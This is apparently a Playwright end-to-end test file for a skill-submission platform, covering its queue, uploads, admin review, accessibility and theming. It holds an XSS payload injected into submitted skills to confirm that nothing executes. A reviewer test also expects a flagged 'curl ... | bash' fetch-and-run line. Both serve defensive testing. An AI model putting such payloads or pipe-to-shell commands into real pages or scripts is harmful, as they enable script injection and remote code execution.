"""Pages in a real browser, against the running platform."""

import re
from concurrent.futures import ThreadPoolExecutor

import pytest
from axe_playwright_python.sync_playwright import Axe
from playwright.sync_api import Page, expect

from tests.support.browser import browser as open_browser
from tests.support.demo import SETUP, AdminSession, fill, fill_github, skill_md, submit_repo, upload, wait_until_idle
from tests.support.platform import Platform
from tests.support.screenshots import SIZES, THEMES, pages
from tests.support.stub_github import StubGitHub

SERIOUS = ("serious", "critical")
SCRIPT = "<script>window.hacked=1</script><img src=x onerror=window.hacked=1>"
LIVE = 30_000  # milliseconds: a cold worker on a busy machine


@pytest.fixture(scope="module")
def browser():
    with open_browser() as running:
        yield running


@pytest.fixture(scope="module")
def github():
    with StubGitHub() as stub:
        fill_github(stub)
        yield stub


@pytest.fixture(scope="module")
def platform(tmp_path_factory, github):
    """A queue at work."""
    running = Platform.start(tmp_path_factory.mktemp("pages"), GITHUB_API_URL=github.url)
    yield running
    running.kill()


@pytest.fixture(scope="module")
def demo(tmp_path_factory, github):
    """A bit of everything, standing still: the queue is paused."""
    running = Platform.start(tmp_path_factory.mktemp("demo"), GITHUB_API_URL=github.url)
    running.ids = fill(running, github)
    yield running
    running.kill()


@pytest.fixture
def tab(browser):
    """A page that takes note of everything that goes wrong on it."""
    with_tab = Tab(browser.new_context(viewport={"width": 1280, "height": 800}))
    yield with_tab.page
    with_tab.close()


class Tab:
    def __init__(self, context) -> None:
        self.context, self.problems = context, []
        context.set_default_timeout(LIVE)
        self.page: Page = context.new_page()
        self.page.on("console", lambda message: message.type == "error" and self.problems.append(message.text))
        self.page.on("pageerror", lambda error: self.problems.append(str(error)))
        self.page.on("dialog", lambda dialog: self.problems.append(f"dialog: {dialog.message}"))
        self.page.on("requestfailed", self._failed)

    def _failed(self, request) -> None:
        if request.failure != "net::ERR_ABORTED":  # leaving a page ends what it was waiting for
            self.problems.append(f"{request.url}: {request.failure}")

    def close(self) -> None:
        self.context.close()
        assert self.problems == []


def sign_in(page: Page, platform: Platform) -> None:
    page.goto(f"{platform.url}/admin")
    page.fill("#token", platform.admin_token)
    page.click("button:text('Sign in')")
    expect(page.get_by_role("button", name="Sign out")).to_be_visible()


def serious_violations(page: Page) -> list[str]:
    found = Axe().run(page).response["violations"]
    return [f"{one['id']}: {one['nodes'][0]['html']}" for one in found if one["impact"] in SERIOUS]


@pytest.mark.parametrize("theme", THEMES)
@pytest.mark.parametrize("size", SIZES)
def test_every_page_is_accessible_fits_its_window_and_has_no_error(browser, demo, theme, size):
    width, height = SIZES[size]
    tab = Tab(browser.new_context(color_scheme=theme, viewport={"width": width, "height": height}))
    for name, path in pages(demo.ids).items():
        if name == "admin":
            sign_in(tab.page, demo)
        else:
            tab.page.goto(demo.url + path)
        assert size == "phone" or serious_violations(tab.page) == [], name
        assert tab.page.evaluate("document.scrollingElement.scrollWidth <= innerWidth"), f"{name} is too wide"
    if any("404" in problem for problem in tab.problems):
        tab.problems = [problem for problem in tab.problems if "404" not in problem]  # the page that is not found
    tab.close()


def test_the_first_paint_is_right_without_javascript_with_0_1_and_300_submissions(browser, tmp_path, github):
    platform = Platform.start(tmp_path, GITHUB_API_URL=github.url)
    try:
        admin = AdminSession(platform, platform.admin_token)
        admin.post("/admin/pause", action="pause", hours="1", why="standing still")
        context = browser.new_context(java_script_enabled=False)
        page = context.new_page()
        submitted = 0
        for n in (0, 1, 300):
            names = [f"skill-{k}" for k in range(submitted, n)]
            with ThreadPoolExecutor(8) as pool:
                list(pool.map(lambda name: submit_repo(platform, "https://github.com/o/r", f"skills/{name}"), names))
            submitted = n
            page.goto(f"{platform.url}/queue")
            shown = {card: page.inner_text(f'[data-figure="{card}"]') for card in ("total", "active", "published")}
            assert shown == {"total": str(n), "active": str(n), "published": "0"}
            assert page.locator("[data-rows] tbody tr").count() == min(n, 50)
        page.click("text=Next 50")
        assert page.locator("[data-rows] tbody tr").count() == 50
        context.close()
    finally:
        platform.kill()


def test_a_submission_moves_through_its_states_on_an_open_queue(tab, platform):
    tab.goto(f"{platform.url}/queue")
    expect(tab.locator("[data-live]")).to_have_attribute("data-live", "live")
    tab.evaluate("window.sameDocument = true")
    before = int(tab.inner_text('[data-figure="total"]'))
    answer = upload(platform, "seen-live", skill_md("seen-live", "Is seen.", []))
    row = tab.locator(f'tr[data-id="{answer["id"]}"]')
    expect(row).to_contain_text("Published", timeout=LIVE)
    expect(tab.locator('[data-figure="total"]')).to_have_text(str(before + 1))
    assert tab.evaluate("window.sameDocument")
    expect(tab.locator("[data-news]").first).to_contain_text(re.compile("published|changed"))


def test_an_open_submission_follows_its_own_story(tab, platform):
    admin = AdminSession(platform, platform.admin_token)
    admin.post("/admin/pause", action="pause", hours="1", why="to look at it first")
    answer = upload(platform, "followed", skill_md("followed", "Is followed.", []))
    tab.goto(f"{platform.url}/submissions/{answer['id']}")
    expect(tab.locator(".verdict-line")).to_contain_text("Waiting")
    expect(tab.locator("[data-live]")).to_have_attribute("data-live", "live")
    tab.evaluate("window.sameDocument = true")
    admin.post("/admin/pause", action="resume", why="seen")
    assert platform.json("POST", "/api/v1/admin/stuck/requeue", headers=_bearer(platform))[0] == 200
    admin.post(f"/admin/review/{answer['id']}", action="dequeue", why="the test moves it by hand")
    moved = re.compile("Published|the test moves it by hand")
    expect(tab.locator(".verdict-line")).to_contain_text(moved, timeout=LIVE)
    assert tab.evaluate("window.sameDocument")


def _bearer(platform: Platform) -> dict[str, str]:
    return {"authorization": f"Bearer {platform.admin_token}"}


def test_a_stream_that_breaks_is_polled_and_without_a_network_it_says_so(browser, platform):
    tab = Tab(browser.new_context())
    tab.page.route("**/submissions/stream*", lambda route: route.fulfill(status=503, body="{}"))
    tab.page.goto(f"{platform.url}/queue")
    live = tab.page.locator("[data-live]")
    expect(live).to_have_attribute("data-live", "polling", timeout=LIVE)
    tab.page.route("**/submissions/events*", lambda route: route.abort())
    expect(live).to_have_attribute("data-live", "offline", timeout=LIVE)
    tab.page.unroute("**/submissions/stream*")
    tab.page.unroute("**/submissions/events*")
    expect(live).to_have_attribute("data-live", re.compile("live|polling"), timeout=LIVE)
    tab.problems.clear()  # the broken requests of this test
    tab.close()


def test_a_folder_is_uploaded_and_its_token_shown(tab, platform, tmp_path):
    folder = tmp_path / "My Folder"
    folder.mkdir()
    (folder / "SKILL.md").write_text(skill_md("from-a-folder", "Comes from a folder.", []))
    (folder / "notes.txt").write_text("notes")
    tab.goto(f"{platform.url}/submit")
    tab.set_input_files("#folder", str(folder))
    expect(tab.locator("[data-chosen]")).to_contain_text("2 files")
    assert tab.input_value("#name") == "my-folder"
    tab.fill("#name", "Wrong Name")
    tab.click("button:text('Upload and submit')")
    expect(tab.locator('[data-problem="name"]')).to_contain_text("lower-case letters")
    expect(tab.locator("#name")).to_be_focused()
    tab.fill("#name", "from-a-folder")
    tab.click("button:text('Upload and submit')")
    expect(tab.locator("#new-token")).to_have_value(re.compile("[0-9a-f]{64}"))
    tab.click("text=Follow it")
    expect(tab.locator(".verdict-line")).to_contain_text("Published", timeout=LIVE)


def test_an_upload_without_javascript_works_too(browser, platform, tmp_path):
    file = tmp_path / "SKILL.md"
    file.write_text(skill_md("no-script", "Needs no script.", []))
    context = browser.new_context(java_script_enabled=False)
    page = context.new_page()
    page.goto(f"{platform.url}/submit")
    page.fill("#name", "no-script")
    page.set_input_files("#files", str(file))
    page.click("button:text('Upload and submit')")
    assert re.fullmatch("[0-9a-f]{64}", page.input_value("#upload-token"))
    page.click("text=Follow it")
    assert "no-script" in page.inner_text("h1")
    context.close()


def test_the_skills_of_a_repository_are_found_chosen_submitted_and_followed(browser, platform):
    tab = Tab(browser.new_context())
    page = tab.page
    page.goto(f"{platform.url}/submit")
    page.fill("#repo-url", "https://github.com/acme/agent-tools")
    page.click("button:text('Find skills')")
    expect(page.get_by_role("button", name="Submit 3 skills")).to_be_visible()
    page.get_by_label(re.compile("ticket-router")).uncheck()
    page.get_by_role("button", name="Submit 2 skills").click()
    expect(page.locator("[data-results] a")).to_have_count(2)
    page.get_by_role("link", name=re.compile("shift-planner")).click()
    expect(page.locator(".verdict-line")).to_contain_text("Published", timeout=LIVE)
    page.click("text=Open the skill")
    expect(page.locator("h1")).to_have_text("shift-planner")
    page.goto(f"{platform.url}/submit?repoUrl=https://github.com/acme/agent-tools")
    page.keyboard.press("Enter")
    page.click("button:text('Find skills')")
    expect(page.get_by_role("button", name="Submit 1 skill")).to_be_visible()
    expect(page.locator(".found")).to_contain_text("published")
    tab.close()


def test_an_approved_skill_is_published_as_certified(tab, platform):
    held = upload(platform, "approved", skill_md("approved", "Is approved.", []), files={"setup.sh": SETUP})
    wait_until_idle(platform)
    sign_in(tab, platform)
    tab.goto(f"{platform.url}/admin?review={held['id']}")
    tab.click("summary:text('Approve')")
    tab.fill("#why-approve", "the address is ours")
    tab.get_by_role("button", name="Approve and publish approved").click()
    expect(tab.locator(".banner.good")).to_contain_text("Approved")
    tab.goto(f"{platform.url}/submissions/{held['id']}")
    expect(tab.locator(".verdict-line")).to_contain_text("Published as version 1.0.0", timeout=LIVE)
    tab.goto(f"{platform.url}/skills/uploads/anonymous/approved")
    expect(tab.locator(".head")).to_contain_text("Certified")
    expect(tab.locator(".answers")).to_contain_text("Runs shell commands")


def test_a_repository_that_cannot_be_reached_is_told_beside_the_field(browser, platform):
    tab = Tab(browser.new_context())
    message = "We could not reach GitHub (quota used up)."
    error = {"error": {"code": "github_quota", "message": message, "requestId": "r"}, "message": message}
    tab.page.route("**/submissions/discover", lambda route: route.fulfill(status=502, json=error))
    tab.page.goto(f"{platform.url}/submit")
    tab.page.fill("#repo-url", "https://github.com/acme/tools")
    tab.page.keyboard.press("Enter")
    expect(tab.page.locator("#repo-url-problem")).to_have_text(message)
    assert tab.page.input_value("#repo-url") == "https://github.com/acme/tools"
    tab.problems.clear()  # the 502 of this test
    tab.close()


def test_a_reviewer_reads_decides_and_finds_it_in_the_audit_list(tab, platform):
    text = skill_md("reviewed", "Is reviewed.", [])
    held = upload(platform, "reviewed", text, files={"scripts/setup.sh": SETUP})
    wait_until_idle(platform)
    sign_in(tab, platform)
    tab.goto(f"{platform.url}/admin?review={held['id']}")
    expect(tab.locator(".finding")).to_contain_text("scripts/setup.sh:5")
    expect(tab.locator(".finding .hit")).to_contain_text("curl -fsSL https://get.example.net/helper.sh | bash")
    tab.click("summary:text('Reject')")
    tab.get_by_role("button", name="Reject reviewed").click()  # the browser asks for the reason first
    expect(tab.locator("#why-reject")).to_be_focused()
    tab.fill("#why-reject", "it hides what it does")
    tab.get_by_role("button", name="Reject reviewed").click()
    expect(tab.locator(".banner.good")).to_contain_text("Its author sees your reason")
    audit = tab.locator("section", has=tab.get_by_role("heading", name="Audit")).locator("tbody tr").first
    expect(audit).to_contain_text("it hides what it does")
    tab.goto(f"{platform.url}/submissions/{held['id']}")
    expect(tab.locator(".verdict-line")).to_have_text("Rejected: it hides what it does.")


def test_keys_walk_the_rows_open_one_and_come_back(tab, demo):
    tab.goto(f"{demo.url}/queue")
    tab.keyboard.press("j")
    tab.keyboard.press("j")
    tab.keyboard.press("k")
    expect(tab.locator("[data-rows] tbody tr").first.locator(".row-link")).to_be_focused()
    tab.keyboard.press("Enter")
    tab.wait_for_url("**/submissions/sub_*")
    tab.keyboard.press("?")
    expect(tab.locator("dialog.keys")).to_be_visible()
    tab.keyboard.press("Escape")
    expect(tab.locator("dialog.keys")).to_be_hidden()
    tab.keyboard.press("Escape")
    tab.wait_for_url("**/queue")
    tab.keyboard.press("Tab")
    expect(tab.locator(".skip")).to_be_focused()


def test_the_theme_is_kept_and_there_from_the_first_byte(browser, demo):
    tab = Tab(browser.new_context(color_scheme="light"))
    tab.page.goto(f"{demo.url}/queue")
    light = tab.page.evaluate("getComputedStyle(document.body).backgroundColor")
    tab.page.click("[data-theme-toggle]")
    assert tab.page.evaluate("getComputedStyle(document.body).backgroundColor") != light
    response = tab.page.goto(f"{demo.url}/skills")
    assert 'data-theme="dark"' in response.text()
    tab.close()


def test_s06_nothing_submitted_runs_and_nothing_breaks_the_layout(browser, platform):
    long = "w" * 500
    head = f'---\nname: "<script>window.hacked=1</script>"\ndescription: "{SCRIPT} {long}"\n---\n'
    text = f"{head}# {SCRIPT}\n\n{SCRIPT}\n\n{long}\n\n[x](javascript:window.hacked=1) ![x](x:y)\n"
    good = upload(platform, "nasty", text)
    bad = upload(platform, "nastier", f"---\nname: {long}{SCRIPT}\n---\n")
    wait_until_idle(platform)
    tab = Tab(browser.new_context(viewport={"width": 390, "height": 844}))
    sign_in(tab.page, platform)
    paths = ["/", "/queue", "/skills", "/skills/uploads/anonymous/nasty", "/admin"]
    for path in [*paths, *(f"/submissions/{one['id']}" for one in (good, bad))]:
        tab.page.goto(platform.url + path)
        for link in tab.page.locator(".prose a").all():
            assert (link.get_attribute("href") or "https:").startswith("http")
        assert tab.page.evaluate("window.hacked") is None
        assert tab.page.evaluate("document.scrollingElement.scrollWidth <= innerWidth"), f"{path} is too wide"
    tab.problems = [problem for problem in tab.problems if "404" not in problem]
    tab.close()


def test_every_request_of_a_page_goes_to_the_platform_itself(browser, demo):
    tab = Tab(browser.new_context())
    asked = []
    tab.page.on("request", lambda request: asked.append(request.url))
    for path in ("/", "/submit", "/skills/uploads/anonymous/pdf-forms"):
        tab.page.goto(demo.url + path)
    with tab.page.expect_request("**/submissions/stream*"):
        tab.page.goto(f"{demo.url}/queue")
    assert [url for url in asked if not url.startswith(demo.url)] == []
    tab.close()
